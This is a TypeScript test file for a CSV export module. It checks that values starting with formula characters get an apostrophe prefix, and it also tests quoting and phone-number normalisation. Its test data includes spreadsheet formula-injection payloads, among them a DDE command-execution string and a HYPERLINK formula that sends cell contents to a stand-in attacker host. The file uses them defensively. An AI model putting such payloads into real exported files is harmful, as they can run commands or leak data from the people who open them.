import { describe, expect, it } from "vitest";
import { readCsv } from "#tests/setup/files/read-csv.ts";
import { collect } from "#tests/setup/files/read-export.ts";
import { asText, csvOf, phoneAsText } from "./csv.ts";

async function* batches<Row>(...rows: Row[][]) {
  yield* rows;
}

async function fileOf(...values: (string | number | null)[]) {
  const columns = { Value: (value: string | number | null) => value, Next: () => "next" };
  return (await collect(csvOf(columns, batches(values)))).join("");
}

const hostile = [
  "=1+2",
  "+1-604-555-0142",
  "+16045550142",
  "+1 604 555 0142 =1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+2",
  "\r=1+2",
  "\n=1+2",
  "\tplain",
  "\nplain",
  " =1+2",
  "\u00a0=1+2",
  "\u200b=1+2",
  "\ufeff=1+2",
  "\u0001=1+2",
  "＝1+2",
  "＋1",
  "－1",
  "＠SUM(A1)",
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")',
];

const harmless = [
  "Ferme Côté & Fils",
  'The "Fine" Butcher, Ltd.',
  "Delta\r\nBack door",
  "Vancouver; Burnaby",
  "a=b",
  "2-4 lb",
  "'quoted'",
  "12.50",
  "+1 604 555 0142",
  "寿司 🥩",
];

describe("a CSV file", () => {
  it.each(hostile)("prefixes %j, so that spreadsheets treat it as text", async (text) => {
    expect(asText(text)).toBe(`'${text}`);
    expect(readCsv(await fileOf(text))).toEqual([{ Value: `'${text}`, Next: "next" }]);
  });

  it.each(harmless)("leaves %j unchanged", async (text) => {
    expect(readCsv(await fileOf(text))).toEqual([{ Value: text, Next: "next" }]);
  });

  it.each([",", ";", "\t", "|", " ", '"', "'", "\n", "\r"])(
    "quotes a text that contains %j, so that it stays in one cell",
    async (separator) => {
      const quoted = `a${separator}=1+2`.replaceAll('"', '""');
      expect(await fileOf(`a${separator}=1+2`)).toContain(`\r\n"${quoted}",next\r\n`);
    },
  );

  it("is UTF-8 with a byte order mark, CRLF, headings first, and plain decimals", async () => {
    expect(await fileOf("249.90", 3, null, "", "Côté")).toBe(
      "\uFEFFValue,Next\r\n249.90,next\r\n3,next\r\n,next\r\n,next\r\nCôté,next\r\n",
    );
  });

  it("has its headings even without rows", async () => {
    const pieces = await collect(csvOf({ "Order ID": () => "" }, batches()));
    expect(pieces).toEqual(['\uFEFF"Order ID"\r\n']);
  });

  it("yields a piece for each batch that is not empty, and returns the number of rows", async () => {
    const file = csvOf({ Value: (value: string) => value }, batches([], ["a", "b"], [], ["c"], []));
    expect(await file.next()).toEqual({ done: false, value: "\uFEFFValue\r\na\r\nb\r\n" });
    expect(await file.next()).toEqual({ done: false, value: "c\r\n" });
    expect(await file.next()).toEqual({ done: true, value: 3 });
  });
});

describe("a telephone number", () => {
  it.each([
    ["604-555-0142", "604-555-0142"],
    ["+1-604-555-0142", "+1 604 555 0142"],
    [" +1 (604) 555.0142", "+1 604 555 0142"],
    ["+16045550142", "+1 604 555 0142"],
    ["+44 20 7946 0958", "+44 20 7946 0958"],
  ])("typed as %j gets no apostrophe", (typed, cell) => {
    expect(asText(phoneAsText(typed))).toBe(cell);
  });

  it.each(["+1+1", "=1", "+1-604 ext. 5", "+cmd|x", "+"])(
    "isn't recognized in %j, which stays text",
    (typed) => {
      expect(asText(phoneAsText(typed))).toBe(`'${typed}`);
    },
  );
});
